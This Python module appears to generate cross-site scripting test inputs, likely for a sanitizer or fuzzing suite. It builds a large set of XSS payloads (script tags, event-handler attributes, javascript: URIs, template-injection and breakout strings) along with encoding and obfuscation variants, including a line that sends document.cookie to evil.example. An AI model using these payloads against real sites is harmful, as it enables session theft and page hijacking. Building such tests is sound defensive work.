"""Texts that run a script in a page that takes them for markup."""

LONGEST_BYTES = 256
_CODES = (
    "window.ran=1",
    "alert(1)",
    "fetch('https://evil.example/'+document.cookie)",
    "location='//evil.example'",
    "top['ran']=1",
    "self.ran=`1`",
)
_MARKUP = (
    "<script>{}</script>",
    "<ScRiPt>{}</sCrIpT>",
    "<script src=//evil.example/x.js onload={}></script>",
    "<script type=module>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</option></select><script>{}</script>",
    "--><script>{}</script>",
    "]]><script>{}</script>",
    "<img src=x onerror={}>",
    '<img src="x" onerror="{}">',
    "<img/src=x/onerror={}>",
    "<IMG SRC=x OnErRoR={}>",
    "<img srcset=,x onerror={}>",
    '"><img src=x onerror={}>',
    "'><img src=x onerror={}>",
    '" autofocus onfocus="{}',
    "' onmouseover='{}",
    "` onpointerover=`{}",
    "<svg onload={}>",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><animate onbegin={} attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:{}></svg>",
    "<svg><a href=javascript:{}><text y=20>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg onload={}>'/></svg>",
    "<math><mtext></mtext><mglyph><svg onload={}>",
    "<body onload={}>",
    "<body onhashchange={}>",
    "<input autofocus onfocus={}>",
    "<select autofocus onfocus={}>",
    "<textarea autofocus onfocus={}>",
    "<details open ontoggle={}>",
    "<video><source onerror={}></video>",
    "<audio src onloadstart={}>",
    "<marquee onstart={}>x</marquee>",
    "<div onanimationstart={} style=animation-name:x>",
    "<p tabindex=0 autofocus onfocus={}>",
    "<iframe src=javascript:{}></iframe>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<object data=javascript:{}></object>",
    "<embed src=javascript:{}>",
    "<form action=javascript:{}><button autofocus>x</button></form>",
    "<a href=javascript:{}>x</a>",
    "<base href=//evil.example/>{}",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<link rel=stylesheet href=//evil.example/x.css onload={}>",
    "<style>@import'//evil.example/{}'</style>",
    "<template><script>{}</script></template>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<x-element onclick={}>x</x-element>",
)
_PLAIN = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    " javascript:{}",
    "javascript&colon;{}",
    "java&Tab;script:{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "[x](javascript:{})",
    "![x](x onerror={})",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "<%= {} %>",
    "#{{{}}}",
    "';{}//",
    '";{}//',
    "\\');{}//",
    "`-{}-`",
    "__proto__.{}",
    "#lists?market=<img src=x onerror={}>",
)
_ENCODED = (
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text.replace("<", "&#60;").replace(">", "&#x3E;"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E"),
    lambda text: text.replace("<", "%253C"),
    lambda text: text.replace("<", "\\u003c").replace(">", "\\x3e"),
    lambda text: text.replace("<", "\uff1c").replace(">", "\uff1e"),
    lambda text: f"\u202e{text}\u2066",
    lambda text: text.replace("s", "\u017f"),
    lambda text: text.replace("<", "<\u200b"),
)


def payloads(count):
    """So many different texts, of each kind some, in a fixed order."""
    plain = [shape.format(code) for code in _CODES for shape in (*_MARKUP, *_PLAIN)]
    shapes = [shape.format(_CODES[0]) for shape in _MARKUP]
    encoded = [change(text) for change in _ENCODED for text in shapes]
    found = [one for one in dict.fromkeys(plain + encoded) if len(one.encode()) <= LONGEST_BYTES]
    assert len(found) >= count
    return [found[len(found) * place // count] for place in range(count)]
